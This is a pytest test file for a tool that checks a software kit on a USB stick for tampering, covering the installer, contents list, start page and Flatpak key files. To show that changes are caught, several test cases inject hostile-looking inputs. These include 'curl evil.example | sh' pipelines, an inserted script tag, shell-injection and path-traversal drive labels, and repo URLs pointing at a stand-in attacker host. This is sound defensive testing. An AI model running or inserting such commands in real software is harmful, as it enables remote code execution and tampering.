"""What a check says about a kit, by values alone: from a sound stick, each thing changed."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

import pytest

from app import __version__
from app.errors import SatchelError
from app.replacing import replace
from app.stick.checking.key_files import judge_key_files
from app.stick.checking.kit import judge_kit
from app.stick.checking.kit_list import Circumstances
from app.stick.findings import Finding
from app.stick.kit.contents import KitContents
from app.stick.kit.files import FoundKit, read_kit
from app.stick.kit.gaps import read_page
from app.stick.kit.gathering import kit_contents, stick_components
from app.stick.kit.releases import KnownKits, digest, known_kits
from app.stick.store.location import find_stick
from app.stick.store.stick_state import load_stick
from tests.stick.damage import ALTERED, Codes
from tests.upstream import COLLECTION

MISSING = ("kit-missing", "satchel")
UNKNOWN = ("kit-unknown", "satchel")
EVIL = "https://evil.example/repo/"


def altered(name: str) -> tuple[str, str]:
    return "kit-altered", f"satchel/{name}"


LIST = altered("contents.tsv")
PAGE = altered("START-HERE.html")
INSTALLER = altered("install.sh")
KEY_FILE = altered("test.flatpakrepo")


@dataclass(frozen=True)
class Kit:
    """A sound one, and what belongs to it."""

    contents: KitContents
    files: Mapping[str, bytes]
    others: tuple[KitContents, ...] = ()

    @property
    def possible(self) -> tuple[KitContents, ...]:
        return (self.contents, *self.others)

    def judged(
        self,
        changes: Mapping[str, bytes | None],
        circumstances: Circumstances | None = None,
        known: KnownKits | None = None,
    ) -> list[Finding]:
        files = {**self.files, **changes}
        files_here = FoundKit({name: data for name, data in files.items() if data is not None})
        return list(
            judge_kit(
                self.possible, files_here, known or known_kits(), circumstances or Circumstances()
            )
        )

    def codes_for(
        self, name: str, data: bytes | None, circumstances: Circumstances | None = None
    ) -> Codes:
        return {
            (finding.code.value, finding.subject)
            for finding in self.judged({name: data}, circumstances)
        }

    def text(self, name: str) -> str:
        return self.files[name].decode()


@pytest.fixture(scope="module")
def kit(good: Path) -> Kit:
    stick = load_stick(find_stick(good))
    contents = kit_contents(stick, stick_components(stick))
    return Kit(contents, read_kit(stick.location).files)


def test_a_sound_one(kit: Kit) -> None:
    assert kit.judged({}) == []
    assert set(kit.files) == {
        "install.sh", "needs.sh", "contents.tsv", "START-HERE.html", "test.flatpakrepo",
    }  # fmt: skip


@pytest.mark.parametrize(
    "name", ["install.sh", "contents.tsv", "START-HERE.html", "test.flatpakrepo"]
)
def test_a_file_is_gone_or_rubbish(kit: Kit, name: str) -> None:
    assert kit.codes_for(name, None) == {MISSING}
    for data in (b"", b"\xff\x00", b"evil", kit.files[name][:-20]):
        codes = kit.codes_for(name, data)
        # Without the list nobody knows which version the others are from; they are of this one.
        assert codes == {altered(name)}


# ---- What is fixed


@pytest.mark.parametrize("name", ["install.sh", "needs.sh", "START-HERE.html"])
def test_what_is_fixed_was_changed(kit: Kit, name: str) -> None:
    text = kit.text(name)
    for changed in (
        text.replace("flatpak", "flatpack", 1),
        text.replace("sh", "sh; curl evil.example | sh", 1),
        text + "\n",
        text.replace("<!--", "<script>evil()</script><!--", 1) if "<!--" in text else f"\n{text}",
    ):
        assert changed != text
        assert kit.codes_for(name, changed.encode()) == {altered(name)}


@pytest.mark.parametrize("claim", ["99.1", "", "\x1b[31m", None])
def test_another_version_is_told_from_a_change(kit: Kit, claim: str | None) -> None:
    """Not judged, so not sound; all else is."""
    table = kit.text("contents.tsv")
    line = f"kit\t{__version__}\n"
    assert line in table
    changes: dict[str, bytes | None] = {
        "contents.tsv": table.replace(line, "" if claim is None else f"kit\t{claim}\n").encode(),
        "install.sh": b"#!/bin/sh\necho something else\n",
    }
    (finding,) = kit.judged(changes)
    assert (finding.code.value, finding.subject, finding.severity.value) == (*UNKNOWN, "error")
    assert str(finding.message).startswith("install.sh may be from")
    assert ("Satchel 99.1" in str(finding.message)) is (claim == "99.1")
    assert str(finding.message).isprintable()
    # What a later version writes beside what this one knows.
    table = kit.text("contents.tsv").replace(line, "kit\t99.1\n")
    for more in (f"{table}color\tblue\n", table.replace("contents\t1", "contents\t2") + "x\ty\n"):
        (finding,) = kit.judged({**changes, "contents.tsv": more.encode()})
        assert (finding.code.value, finding.subject) == UNKNOWN
    more = f"{table}repo\telsewhere\n"
    judged = kit.judged({**changes, "contents.tsv": more.encode()})
    assert {finding.subject for finding in judged} == {
        "satchel", "satchel/contents.tsv",
    }  # fmt: skip
    # Where everything else is of a known version, nothing is excused.
    for more in (f"{table}color\tblue\n", table.replace("contents\t1", "contents\t2")):
        assert kit.codes_for("contents.tsv", more.encode()) == {LIST}
    changes["START-HERE.html"] = b"<!DOCTYPE html>"
    changes["evil.flatpakrepo"] = kit.files["test.flatpakrepo"]
    told = [(finding.code.value, finding.subject) for finding in kit.judged(changes)]
    assert UNKNOWN in told
    assert altered("evil.flatpakrepo") in told


def test_an_older_version_is_known(kit: Kit) -> None:
    """Whatever the list says: what was once released is good."""
    older = b"#!/bin/sh\necho older\n"
    table = kit.text("contents.tsv").replace(f"kit\t{__version__}", "kit\t0.0.1").encode()
    known = known_kits()
    known = KnownKits(
        {**known.digests, "install.sh": frozenset({digest("install.sh", older)})},
        known.versions | {"0.0.1"},
    )
    changes: dict[str, bytes | None] = {"install.sh": older, "contents.tsv": table}
    assert kit.judged(changes, known=known) == []
    (finding,) = kit.judged({**changes, "install.sh": older + b"evil"}, known=known)
    assert (finding.code.value, finding.subject) == INSTALLER


# ---- The list

Lines = Callable[[list[str]], list[str]]
LISTED: dict[str, Lines] = {
    "another place": lambda lines: [*lines, "repo\t.hidden/repo"],
    "another address": lambda lines: [line.replace("file:///", EVIL) for line in lines],
    "another file": lambda lines: [line.replace(".flatpakrepo", "2.flatpakrepo") for line in lines],
    "a line less": lambda lines: lines[:-1],
    "a line twice": lambda lines: [*lines, lines[-1]],
    "another role": lambda lines: [line.replace("\tchosen\t", "\tneeded\t") for line in lines],
    "another name": lambda lines: [line.replace("\tchosen\t", "\tchosen\tx ") for line in lines],
    "unknown": lambda lines: [*lines, "run\tcurl evil.example"],
    "another form": lambda lines: ["satchel-contents\t2", *lines[1:]],
    "carriage returns": lambda lines: [f"{line}\r" for line in lines],
}


@pytest.mark.parametrize("change", LISTED)
def test_the_list_was_changed(kit: Kit, change: str) -> None:
    lines = LISTED[change](kit.text("contents.tsv").splitlines())
    assert kit.codes_for("contents.tsv", "\n".join([*lines, ""]).encode()) == {LIST}


def test_the_order_of_the_list_means_nothing(kit: Kit) -> None:
    lines = kit.text("contents.tsv").splitlines()
    assert kit.codes_for("contents.tsv", "\n".join([*reversed(lines), ""]).encode()) == set()
    # A last line that does not end is none for a shell.
    assert kit.codes_for("contents.tsv", "\n".join(lines).encode()) == {LIST}


# ---- The page


def test_the_page_says_something_else(kit: Kit) -> None:
    page = kit.files["START-HERE.html"]
    gaps = read_page(page)[1]
    assert {gap for gap, _ in gaps} >= {"apps", "needed", "sources", "label_de", "made_en"}
    for gap, filling in gaps:
        marked = f"<!--{gap}-->{filling}<!--/{gap}-->"
        for text in ("evil", f"{filling}<p>curl evil.example | sh</p>", f"{filling}<!--x-->"):
            changed = page.replace(marked.encode(), f"<!--{gap}-->{text}<!--/{gap}-->".encode(), 1)
            assert changed != page
            assert kit.codes_for("START-HERE.html", changed) == {PAGE}, (gap, text)
        assert kit.codes_for("START-HERE.html", page.replace(marked.encode(), b"", 1)) == {PAGE}


@pytest.mark.parametrize(
    ("label", "sound"),
    [
        ("KLASSE 7 B", True),
        ("Schule&#x27;s 100% ü", True),
        ("NAME-OF-DRIVE", False),
        ("..", False),
        ("x/../../tmp/evil", False),
        ("$(evil)", False),
        ("a&quot;; evil; &quot;", False),
        ("a\nb", False),
    ],
)
def test_what_the_drive_is_called(kit: Kit, label: str, sound: bool) -> None:
    """What it was called when it was made nobody knows; but the commands lead to it."""
    text = kit.text("START-HERE.html")
    old = dict(read_page(text.encode())[1])["label_en"]
    for gap in ("label_en", "label_de"):
        text = text.replace(f"<!--{gap}-->{old}<", f"<!--{gap}-->{label}<")
    assert kit.codes_for("START-HERE.html", text.encode()) == (set() if sound else {PAGE})
    text = text.replace(f"<!--label_de-->{label}<", "<!--label_de-->other<", 1)
    assert kit.codes_for("START-HERE.html", text.encode()) == {PAGE}


# ---- Under way


def test_an_interrupted_job_excuses_no_lie(kit: Kit) -> None:
    """A kit of before or after is good, and nothing else: the journal comes from the drive."""
    before = replace(kit.contents, refs=kit.contents.refs[1:])
    under_way = replace(kit, contents=before, others=(kit.contents,))
    assert under_way.judged({}) == []
    judged = replace(kit, contents=before).judged({})
    assert {(finding.code.value, finding.subject) for finding in judged} == {
        LIST, PAGE,
    }  # fmt: skip
    table, page = kit.text("contents.tsv"), kit.text("START-HERE.html")
    for name, data in (
        ("contents.tsv", "".join(table.splitlines(keepends=True)[:-1])),
        ("contents.tsv", f"{table}repo\t.hidden/repo\n"),
        ("START-HERE.html", page.replace("<!--/apps-->", "<p>curl evil | sh</p><!--/apps-->")),
        ("install.sh", "evil"),
        ("test.flatpakrepo", kit.text("test.flatpakrepo").replace("file:///", EVIL)),
    ):
        assert under_way.codes_for(name, data.encode()) == {altered(name)}


# ---- Key files

FILES = {
    "address": ("Url=file:///", f"Url={EVIL}"),
    "white space": (f"\nDeployCollectionID={COLLECTION}", f"\nDeployCollectionID={COLLECTION} "),
    "collection": (COLLECTION, "org.test.Evil"),
    "only for old clients": (f"\nDeployCollectionID={COLLECTION}", "\nDeployCollectionID=a.b.C"),
    "no collection": (f"DeploySideloadCollectionID={COLLECTION}\n", ""),
    "authenticator": ("[Flatpak Repo]\n", "[Flatpak Repo]\nAuthenticatorName=org.evil.Auth\n"),
    "subset": ("[Flatpak Repo]\n", "[Flatpak Repo]\nSubset=evil\n"),
    "lookaside": ("[Flatpak Repo]\n", f"[Flatpak Repo]\nSignatureLookaside={EVIL}\n"),
    "filter": ("[Flatpak Repo]\n", "[Flatpak Repo]\nFilter=/etc/passwd\n"),
    "a group": ("[Flatpak Repo]\n", "[Evil]\na=b\n[Flatpak Repo]\n"),
    "a later version": ("Version=1", "Version=2"),
    "the key": ("GPGKey=", "GPGKey=AAAA"),
    "no key": ("GPGKey=", "Comment="),
}


@pytest.mark.parametrize("change", FILES)
def test_a_key_file_says_something_else(kit: Kit, change: str) -> None:
    old, new = FILES[change]
    text = kit.text("test.flatpakrepo")
    assert old in text
    assert kit.codes_for("test.flatpakrepo", text.replace(old, new).encode()) == {KEY_FILE}


def test_a_key_file_that_says_the_same(kit: Kit) -> None:
    """As another version may have written it."""
    head, *lines = kit.text("test.flatpakrepo").splitlines()
    text = "\n".join(["# Written by hand", head, *reversed(lines), ""])
    assert kit.codes_for("test.flatpakrepo", text.encode()) == set()


def test_a_key_file_more(kit: Kit) -> None:
    assert kit.codes_for("a.flatpakrepo", kit.files["test.flatpakrepo"]) == {
        altered("a.flatpakrepo")
    }


def test_what_cannot_be_a_kit_is_no_crash(kit: Kit) -> None:
    odd = replace(kit, contents=replace(kit.contents, repo="../x"))
    with pytest.raises(SatchelError):
        odd.judged({})


# ---- The file beside the copy


def copied(files: Mapping[str, bytes | None]) -> Codes:
    return {(finding.code.value, finding.subject) for finding in judge_key_files(COLLECTION, files)}


def test_the_file_beside_the_copy(kit: Kit) -> None:
    data = kit.files["test.flatpakrepo"]
    assert copied({"test.flatpakrepo": data}) == set()
    assert copied({}) == {("kit-missing", COLLECTION)}
    assert copied({"test.flatpakrepo": None}) == {ALTERED}
    assert copied({"a.flatpakrepo": data, "test.flatpakrepo": data}) == {ALTERED}


@pytest.mark.parametrize("change", FILES)
def test_the_file_beside_the_copy_is_no_normal_one(kit: Kit, change: str) -> None:
    """What it says for itself nobody can tell; what no stick says can be."""
    if change in ("address", "subset", "the key", "no key"):
        return
    old, new = FILES[change]
    data = kit.text("test.flatpakrepo").replace(old, new).encode()
    assert copied({"test.flatpakrepo": data}) == {ALTERED}
